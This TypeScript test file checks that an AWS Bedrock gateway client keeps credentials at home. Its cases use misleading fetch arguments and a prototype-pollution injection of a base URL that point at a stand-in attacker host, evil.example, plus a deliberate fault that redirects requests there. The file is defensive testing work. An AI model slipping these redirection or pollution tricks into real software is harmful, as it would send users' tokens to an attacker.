import type { Case, Context } from "../case.ts";
import { equal, ok } from "../check.ts";
import type { Fault } from "../subjects/faults.ts";
import { GATEWAY, gateways } from "./gateway.ts";
import { empty, last } from "./steps.ts";

const HOME = `${GATEWAY}/models`;
const EVIL = "https://evil.example/v1/models";

/** Arguments of `fetch` of which one part leads home and another elsewhere. */
interface Misleading {
  readonly id: string;
  readonly title: string;
  readonly source: string;
  /** Whether a client may refuse them. */
  readonly mayRefuse?: true;
  args(): [input: RequestInfo | URL, init?: RequestInit];
}

function misleading({ args, mayRefuse, ...about }: Misleading): Case {
  return {
    ...about,
    id: `containment/${about.id}`,
    needs: ["fetch"],
    answer: empty,
    async run(subject, context) {
      const connections = await gateways(subject, context);
      for (const { fetch } of connections) {
        ok(fetch, "The subject does not offer `fetch`");
        const attempt = fetch(...args());
        await (mayRefuse ? attempt.catch(() => {}) : attempt);
      }
      if (!mayRefuse) ok(context.sent.length === connections.length, "Nothing was sent");
      stayedHome(context);
    },
    negative: leadsAstray,
  };
}

/** Sends whatever `fetch` is given elsewhere. */
const leadsAstray: Fault = (subject) => ({
  ...subject,
  async connect(options, transport) {
    const connection = await subject.connect(options, transport);
    return { ...connection, fetch: () => transport(EVIL) };
  },
});

function stayedHome({ sent }: Context): void {
  for (const { url } of sent) ok(url === HOME, `A credential was sent to ${url}`);
}

const misleadings: readonly Misleading[] = [
  {
    id: "url-of-an-init-is-ignored",
    title: "A `url` in the init of a Request does not lead it elsewhere",
    source: "https://fetch.spec.whatwg.org/#requestinit",
    args: () => [new Request(HOME), { url: EVIL } as RequestInit],
  },
  {
    id: "request-that-names-another-url",
    title:
      "A Request goes where the platform would send it, or nowhere, whatever its own `url` says",
    source: "https://fetch.spec.whatwg.org/#dom-request-url",
    mayRefuse: true,
    args: () => [Object.defineProperty(new Request(EVIL), "url", { value: HOME })],
  },
  {
    id: "url-whose-text-changes",
    title: "An object whose text changes leads to the URL that was checked, or nowhere",
    source: "https://fetch.spec.whatwg.org/#dom-global-fetch",
    mayRefuse: true,
    args() {
      let reads = 0;
      return [Object.defineProperty(new URL(HOME), "toString", {
        value: () => reads++ ? EVIL : HOME,
      })];
    },
  },
];

const polluted: Case = {
  id: "containment/variable-on-the-root-prototype",
  title: "A base URL that a merge of JSON has left on Object.prototype leads no request elsewhere",
  source: "https://cwe.mitre.org/data/definitions/1321.html",
  own: true,
  needs: ["fetch"],
  answer: empty,
  async run(subject, context) {
    const { region, bearerToken: apiKey } = context;
    // A client reads its configuration at once
    const { fetch } = await withPolluted(() => subject.connect({ region, apiKey }, context.fetch));
    ok(fetch, "The subject does not offer `fetch`");
    await fetch(`https://bedrock-mantle.${region}.api.aws/openai/v1/models`);
    equal(new URL(last(context).url).host, `bedrock-mantle.${region}.api.aws`, "Sent to");
  },
  negative: leadsAstray,
};

function withPolluted<T>(run: () => T): T {
  const name = "AWS_BEDROCK_BASE_URL";
  const root = Object.prototype as unknown as Record<string, unknown>;
  Object.defineProperty(root, name, { configurable: true, value: "https://evil.example/v1" });
  try {
    return run();
  } finally {
    delete root[name];
  }
}

export const containmentArguments: readonly Case[] = [...misleadings.map(misleading), polluted];
